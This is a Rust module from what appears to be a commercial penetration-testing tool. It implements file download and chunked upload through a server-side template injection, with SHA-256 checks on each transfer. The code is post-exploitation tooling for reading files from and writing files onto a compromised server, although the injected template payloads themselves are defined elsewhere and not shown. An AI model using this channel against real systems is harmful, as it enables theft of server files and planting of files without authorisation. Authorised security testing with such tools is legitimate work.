// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Remote File Channel
 * Byte-exact file download and upload over a text-only rendering oracle,
 * with SHA-256 integrity verification on both directions
 *
 * Uploads are split into fixed-size chunks and appended strictly in order:
 * the remote append has no ordering of its own, so chunk N+1 is only sent
 * after chunk N's round trip has completed.
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use crate::engines::{CodeTemplates, Slot};
use crate::errors::{ExploitError, ExploitResult};
use crate::executor::CommandExecutor;
use crate::fingerprint::ContentFingerprint;
use base64::{engine::general_purpose::{STANDARD, URL_SAFE}, Engine as _};
use serde::Serialize;
use tracing::{debug, info, warn};

pub const DEFAULT_CHUNK_SIZE: usize = 500;

/// Progress of one read or write.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(tag = "state", rename_all = "snake_case")]
pub enum TransferState {
    Idle,
    Probing,
    Truncating,
    Transmitting { chunk: usize, total: usize },
    Verifying,
    Verified,
    Unverified,
    OverwriteDenied,
    RemoteFileMissing,
}

impl TransferState {
    pub fn is_terminal(&self) -> bool {
        matches!(
            self,
            TransferState::Verified
                | TransferState::Unverified
                | TransferState::OverwriteDenied
                | TransferState::RemoteFileMissing
        )
    }

    fn can_advance_to(&self, next: &TransferState) -> bool {
        use TransferState::*;
        match (self, next) {
            (Idle, Probing) => true,
            (Probing, Truncating | Verifying | OverwriteDenied | RemoteFileMissing) => true,
            (Probing, Transmitting { chunk: 0, .. }) => true,
            (Truncating, Transmitting { chunk: 0, .. } | Verifying) => true,
            (Transmitting { chunk, total }, Transmitting { chunk: next_chunk, total: next_total }) => {
                total == next_total && *next_chunk == chunk + 1 && *next_chunk < *total
            }
            (Transmitting { .. }, Verifying | Unverified) => true,
            (Verifying, Verified | Unverified) => true,
            _ => false,
        }
    }
}

/// Records the states a transfer has passed through; never moves backwards.
#[derive(Debug, Clone)]
struct TransferMachine {
    state: TransferState,
    history: Vec<TransferState>,
}

impl TransferMachine {
    fn new() -> Self {
        Self {
            state: TransferState::Idle,
            history: vec![TransferState::Idle],
        }
    }

    fn advance(&mut self, next: TransferState) {
        debug_assert!(
            self.state.can_advance_to(&next),
            "illegal transfer transition {:?} -> {:?}",
            self.state,
            next
        );
        self.state = next;
        self.history.push(next);
    }
}

/// Outcome of integrity checking
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum Integrity {
    Verified,
    /// Digests differ; the result is present but unverified
    Mismatch {
        expected: ContentFingerprint,
        observed: Option<ContentFingerprint>,
    },
    /// Per-chunk size confirmation failed after `chunk`
    SizeMismatch {
        chunk: usize,
        expected_size: u64,
        observed_size: Option<u64>,
    },
}

impl Integrity {
    pub fn is_verified(&self) -> bool {
        matches!(self, Integrity::Verified)
    }
}

/// One bounded slice of an upload
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Chunk<'a> {
    pub sequence_index: usize,
    pub bytes: &'a [u8],
}

/// Split `data` into `chunk_size` slices; only the last may be shorter
pub fn chunk_data(data: &[u8], chunk_size: usize) -> Vec<Chunk<'_>> {
    data.chunks(chunk_size.max(1))
        .enumerate()
        .map(|(sequence_index, bytes)| Chunk {
            sequence_index,
            bytes,
        })
        .collect()
}

#[derive(Debug, Clone, Serialize)]
pub struct ReadReport {
    pub path: String,
    #[serde(skip)]
    pub data: Vec<u8>,
    pub size: usize,
    pub remote_fingerprint: ContentFingerprint,
    pub integrity: Integrity,
    pub history: Vec<TransferState>,
}

#[derive(Debug, Clone, Serialize)]
pub struct WriteReport {
    pub path: String,
    pub bytes_sent: usize,
    pub chunks_sent: usize,
    pub truncated: bool,
    pub integrity: Integrity,
    pub state: TransferState,
    pub history: Vec<TransferState>,
}

/// File transfer over a [`CommandExecutor`]'s injector.
#[derive(Clone)]
pub struct FileChannel {
    executor: CommandExecutor,
    chunk_size: usize,
    confirm_chunks: bool,
}

impl FileChannel {
    pub fn new(executor: CommandExecutor) -> Self {
        Self {
            executor,
            chunk_size: DEFAULT_CHUNK_SIZE,
            confirm_chunks: false,
        }
    }

    /// Raw bytes per append; zero is treated as one
    pub fn with_chunk_size(mut self, chunk_size: usize) -> Self {
        self.chunk_size = chunk_size.max(1);
        self
    }

    /// Query the remote size after every chunk and stop at the first mismatch
    pub fn with_chunk_confirmation(mut self, confirm_chunks: bool) -> Self {
        self.confirm_chunks = confirm_chunks;
        self
    }

    pub fn chunk_size(&self) -> usize {
        self.chunk_size
    }

    fn templates(&self) -> &'static CodeTemplates {
        &self.executor.injector().builder().profile().code
    }

    fn code(&self, template: &str, slots: &[(&str, Slot<'_>)]) -> String {
        self.executor.injector().builder().code(template, slots)
    }

    /// Remote SHA-256 of `remote_path`, or `None` if absent or unreadable.
    ///
    /// Oracle failures and malformed output are folded into `None`.
    pub async fn fingerprint(&self, remote_path: &str) -> Option<ContentFingerprint> {
        let code = self.code(self.templates().digest, &[("path", Slot::Literal(remote_path))]);

        match self.executor.injector().capture(&code).await {
            Ok(Some(output)) => {
                let parsed = ContentFingerprint::parse(&output);
                if parsed.is_none() {
                    debug!(path = remote_path, "[SSTI] Digest output was not a fingerprint");
                }
                parsed
            }
            Ok(None) => None,
            Err(e) => {
                debug!(path = remote_path, error = %e, "[SSTI] Digest probe failed");
                None
            }
        }
    }

    /// Whether `remote_path` exists, asked without touching its content.
    ///
    /// Unlike [`FileChannel::fingerprint`], a failed oracle call is an error
    /// here and never reads as "absent".
    pub async fn exists(&self, remote_path: &str) -> ExploitResult<bool> {
        let code = self.code(self.templates().exists, &[("path", Slot::Literal(remote_path))]);
        let output = self.executor.injector().capture(&code).await?;

        match output.as_deref().map(str::trim) {
            Some("True") => Ok(true),
            Some("False") => Ok(false),
            other => Err(ExploitError::MalformedResponse {
                operation: format!("exists {}", remote_path),
                reason: format!("unexpected existence output {:?}", other),
            }),
        }
    }

    /// Download `remote_path` and check it against the remote digest.
    ///
    /// A digest mismatch is reported in the returned [`Integrity`], not as an
    /// error: the file may have changed between the two oracle calls.
    pub async fn read(&self, remote_path: &str) -> ExploitResult<ReadReport> {
        let mut machine = TransferMachine::new();
        machine.advance(TransferState::Probing);

        let remote_fingerprint = match self.fingerprint(remote_path).await {
            Some(fp) => fp,
            None => {
                machine.advance(TransferState::RemoteFileMissing);
                warn!(
                    "[SSTI] Error getting remote file digest for {}, check presence and permission",
                    remote_path
                );
                return Err(ExploitError::RemoteFileMissing {
                    path: remote_path.to_string(),
                });
            }
        };

        machine.advance(TransferState::Transmitting { chunk: 0, total: 1 });
        let code = self.code(self.templates().read, &[("path", Slot::Literal(remote_path))]);
        let encoded = self
            .executor
            .injector()
            .capture(&code)
            .await?
            .ok_or_else(|| ExploitError::MalformedResponse {
                operation: format!("read {}", remote_path),
                reason: "download output did not render".to_string(),
            })?;

        let data = STANDARD
            .decode(encoded.trim())
            .map_err(|e| ExploitError::MalformedResponse {
                operation: format!("read {}", remote_path),
                reason: e.to_string(),
            })?;

        machine.advance(TransferState::Verifying);
        let local_fingerprint = ContentFingerprint::of(&data);
        let integrity = if local_fingerprint == remote_fingerprint {
            machine.advance(TransferState::Verified);
            info!("[SSTI] File downloaded correctly: {} ({} bytes)", remote_path, data.len());
            Integrity::Verified
        } else {
            machine.advance(TransferState::Unverified);
            warn!("[SSTI] Remote file digest mismatch for {}, check manually", remote_path);
            Integrity::Mismatch {
                expected: remote_fingerprint.clone(),
                observed: Some(local_fingerprint),
            }
        };

        Ok(ReadReport {
            path: remote_path.to_string(),
            size: data.len(),
            data,
            remote_fingerprint,
            integrity,
            history: machine.history,
        })
    }

    /// Upload `data` to `remote_path`.
    ///
    /// An existing file is only replaced when `overwrite` is set; it is then
    /// truncated once before the first chunk. A final digest mismatch is
    /// reported in the [`WriteReport`] and never retried.
    ///
    /// The existence check fails the whole call on a transport error, so an
    /// unanswered check never leads to appending onto an unknown file.
    pub async fn write(
        &self,
        data: &[u8],
        remote_path: &str,
        overwrite: bool,
    ) -> ExploitResult<WriteReport> {
        let mut machine = TransferMachine::new();
        machine.advance(TransferState::Probing);

        let exists = self.exists(remote_path).await?;
        if exists && !overwrite {
            machine.advance(TransferState::OverwriteDenied);
            warn!(
                "[SSTI] Remote path {} already exists, enable overwrite to replace it",
                remote_path
            );
            return Err(ExploitError::OverwriteDenied {
                path: remote_path.to_string(),
            });
        }

        let injector = self.executor.injector();

        // An empty upload still has to leave an (empty) file behind
        let truncated = exists || data.is_empty();
        if truncated {
            machine.advance(TransferState::Truncating);
            let code = self.code(self.templates().truncate, &[("path", Slot::Literal(remote_path))]);
            if !injector.evaluate(&code).await? {
                warn!("[SSTI] Truncate of {} did not render", remote_path);
            }
        }

        let chunks = chunk_data(data, self.chunk_size);
        let total = chunks.len();
        let mut bytes_sent = 0usize;
        let mut chunks_sent = 0usize;

        for chunk in &chunks {
            machine.advance(TransferState::Transmitting {
                chunk: chunk.sequence_index,
                total,
            });

            let encoded = URL_SAFE.encode(chunk.bytes);
            let code = self.code(
                self.templates().append,
                &[
                    ("path", Slot::Literal(remote_path)),
                    ("chunk", Slot::Literal(&encoded)),
                ],
            );
            if !injector.evaluate(&code).await? {
                warn!(
                    chunk = chunk.sequence_index,
                    "[SSTI] Append to {} did not render", remote_path
                );
            }
            bytes_sent += chunk.bytes.len();
            chunks_sent += 1;
            debug!(chunk = chunk.sequence_index, total, bytes_sent, "[SSTI] Chunk sent");

            if self.confirm_chunks {
                let confirmation = self
                    .confirm_size(remote_path, chunk.sequence_index, bytes_sent)
                    .await;
                if let Some(integrity) = confirmation {
                    machine.advance(TransferState::Unverified);
                    return Ok(WriteReport {
                        path: remote_path.to_string(),
                        bytes_sent,
                        chunks_sent,
                        truncated,
                        integrity,
                        state: machine.state,
                        history: machine.history,
                    });
                }
            }
        }

        machine.advance(TransferState::Verifying);
        let expected = ContentFingerprint::of(data);
        let observed = self.fingerprint(remote_path).await;

        let integrity = if observed.as_ref() == Some(&expected) {
            machine.advance(TransferState::Verified);
            info!("[SSTI] File uploaded correctly: {} ({} bytes)", remote_path, data.len());
            Integrity::Verified
        } else {
            machine.advance(TransferState::Unverified);
            warn!("[SSTI] Remote file digest mismatch for {}, check manually", remote_path);
            Integrity::Mismatch { expected, observed }
        };

        Ok(WriteReport {
            path: remote_path.to_string(),
            bytes_sent,
            chunks_sent,
            truncated,
            integrity,
            state: machine.state,
            history: machine.history,
        })
    }

    /// `Some` when the remote size differs from `expected_size`
    async fn confirm_size(
        &self,
        remote_path: &str,
        chunk: usize,
        expected_size: usize,
    ) -> Option<Integrity> {
        let code = self.code(self.templates().size, &[("path", Slot::Literal(remote_path))]);
        let observed_size = match self.executor.injector().capture(&code).await {
            Ok(output) => output.and_then(|s| s.trim().parse::<u64>().ok()),
            Err(e) => {
                debug!(chunk, error = %e, "[SSTI] Size probe failed");
                None
            }
        };

        let expected_size = expected_size as u64;
        if observed_size == Some(expected_size) {
            return None;
        }

        warn!(
            chunk,
            expected_size,
            ?observed_size,
            "[SSTI] Remote size mismatch after chunk, stopping upload of {}",
            remote_path
        );
        Some(Integrity::SizeMismatch {
            chunk,
            expected_size,
            observed_size,
        })
    }
}
